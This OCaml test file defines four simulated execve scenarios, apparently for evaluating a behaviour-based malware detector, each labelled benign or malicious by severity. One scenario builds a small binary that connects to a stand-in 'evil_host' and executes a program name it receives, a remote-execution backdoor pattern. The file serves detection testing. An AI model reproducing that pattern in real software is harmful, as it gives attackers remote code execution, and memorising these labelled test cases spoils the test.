open Asm

let group = "table4"

(* execve a program whose name arrived in argv[1] *)
let user_input_exe () =
  let u = create ~path:"/bin/exec_user" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  space u "argp" 4;
  label u "_start";
  Runtime.save_argv u 1 "argp";
  Runtime.sys_execve u ~path:(mlbl "argp") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let user_input =
  Scenario.define ~name:"User input" ~group
    ~descr:"execve of a program named on the command line"
    ~expected:Scenario.Benign
  @@ fun () ->
  Hth.Session.setup
    ~programs:[ user_input_exe (); Common.trivial "/bin/true" ]
    ~argv:[ "/bin/exec_user"; "/bin/true" ]
    ~main:"/bin/exec_user" ()

(* execve a hard-coded program name *)
let hardcode_exe () =
  let u = create ~path:"/bin/exec_hard" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  asciz u "prog" "/bin/true";
  label u "_start";
  Runtime.sys_execve u ~path:(lbl "prog") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let hardcode =
  Scenario.define ~name:"Hardcode" ~group
    ~descr:"execve of a hard-coded program name"
    ~expected:(Scenario.Malicious Secpert.Severity.Low)
  @@ fun () ->
  Hth.Session.setup ~programs:[ hardcode_exe (); Common.trivial "/bin/true" ]
    ~main:"/bin/exec_hard" ()

(* execve a program name received over a hard-coded socket *)
let remote_exe () =
  let u = create ~path:"/bin/exec_remote" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  Runtime.prologue u;
  Runtime.static_sockaddr u "srv" ~ip:(snd Common.evil_host) ~port:4000;
  label u "_start";
  Runtime.sys_socket u;
  movl u esi eax;
  Runtime.sys_connect u ~fd:esi ~addr:(lbl "srv");
  Runtime.sys_recv u ~fd:esi ~buf:(lbl "__buf") ~len:(imm 64);
  Runtime.sys_execve u ~path:(lbl "__buf") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let remote =
  Scenario.define ~name:"Remote execve" ~group
    ~descr:"execve of a program name received from a remote attacker"
    ~expected:(Scenario.Malicious Secpert.Severity.High)
  @@ fun () ->
  Hth.Session.setup
    ~programs:[ remote_exe (); Common.trivial "/bin/true" ]
    ~hosts:Common.all_hosts
    ~servers:
      [ ( fst Common.evil_host, 4000,
          { Osim.Net.actor_host = fst Common.evil_host;
            script = [ Osim.Net.Send "/bin/true\000"; Osim.Net.Close ] } )
      ]
    ~main:"/bin/exec_remote" ()

(* hard-coded execve executed late and rarely *)
let infrequent_exe () =
  let u = create ~path:"/bin/exec_rare" ~kind:Binary.Image.Executable
      ~base:Common.exe_base ()
  in
  asciz u "prog" "/bin/true";
  label u "_start";
  Runtime.sys_sleep u 2500;
  Runtime.sys_execve u ~path:(lbl "prog") ();
  Runtime.sys_exit u 1;
  hlt u;
  finalize u

let infrequent =
  Scenario.define ~name:"Infrequent execve" ~group
    ~descr:"hard-coded execve in code that runs rarely, late in execution"
    ~expected:(Scenario.Malicious Secpert.Severity.Medium)
  @@ fun () ->
  Hth.Session.setup
    ~programs:[ infrequent_exe (); Common.trivial "/bin/true" ]
    ~main:"/bin/exec_rare" ()

let scenarios = [ user_input; hardcode; remote; infrequent ]
